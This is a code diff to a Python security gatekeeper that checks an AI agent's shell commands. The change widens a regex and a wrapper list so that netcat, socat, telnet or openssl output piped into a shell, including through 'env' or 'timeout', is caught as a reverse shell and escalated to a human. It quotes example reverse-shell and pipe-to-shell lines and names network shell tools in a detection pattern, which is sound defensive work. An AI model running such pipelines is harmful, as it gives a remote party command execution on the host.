@@ -8,8 +8,8 @@ told to run a program for the connection (a short-option cluster holding ``e`` o
 PROGRAM`` (busybox's: a login program that is a shell asks no password), and an awk
 program that opens gawk's network files (``/inet/tcp/…``, ``/inet4/``, ``/inet6/``), and a
 shell fed by a netcat, ``socat``, ``telnet`` or ``openssl s_client`` through a pipe (``nc
-10.0.0.1 4444 | sh``: each line the other end sends is a command; ``curl URL | sh`` runs
-one script and stays GK-BASH-006, REVIEW).
+10.0.0.1 4444 | sh``, ``| env sh``, ``| timeout 9 bash``, ``| (sh)``: each line the other
+end sends is a command; ``curl URL | sh`` runs one script and stays GK-BASH-006, REVIEW).
 **Why:** this is a reverse or a bind shell: whoever is at the other end of the connection
 runs commands on this machine. Tier 1 can see it for certain, so it goes to you and never
 rests on the reviewer's judgement (or on text in the command written to persuade it).
@@ -46,8 +46,15 @@ _SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox
 # into a shell, in the call's text.
 _CLIENT_INTO_SHELL = LazyRegex(
     r"(?:^|[\s;&|(`'\"])(?:\S*/)?(?:nc|ncat|netcat|nc\.\w+|netcat\.\w+|nc6|pwncat|socat|telnet"
-    r"|openssl\s+s_client)\s(?:[^;&\n]|[<>]&|&>)*\|&?\s*(?:\S*/)?(?:sh|bash|dash|zsh|ksh|mksh|ash|busybox)\b"
+    r"|openssl\s+s_client)\s(?:[^;&\n]|[<>]&|&>)*\|&?\s*(?:[({]\s*)?"
+    # a wrapper that runs the shell on the same stdin: `| env sh`, `| timeout 9 sh`
+    r"(?:(?:\S*/)?(?:env|command|exec|nohup|setsid|nice|builtin|timeout\s+\S+|stdbuf)"
+    r"(?:\s+-\S+)*\s+)*"
+    r"(?:\S*/)?(?:sh|bash|dash|zsh|ksh|mksh|ash|busybox)\b"
 )
+# Wrappers that hand their stdin to the command they run (`nc h p | env sh`).
+_STDIN_WRAPPERS = frozenset({"env", "command", "exec", "nohup", "setsid", "nice", "builtin"})
+_STDIN_WRAPPERS |= {"timeout", "stdbuf"}
 # socat's address types that run a program: `EXEC:/bin/sh`, `system:'bash -i'`, and a
 # dual address's half after `!!` (socat 2's chains: after `|`, `%`, `^`). socat reads the
 # type case-insensitively.
@@ -59,7 +66,7 @@ _GAWK_INET = LazyRegex(r"/inet[46]?/")
 def gatekeeper_check_command(command: Command, call: ToolCall) -> Finding | None:
     """A netcat, socat, socket or awk that serves a program over the network → ELEVATE."""
     name = command.name
-    if name in _SHELLS and command.stdin_piped:
+    if command.stdin_piped and (name in _SHELLS or name in _STDIN_WRAPPERS):
         return _fed_by_network(name, call)
     if name not in _NAMES:
         return None
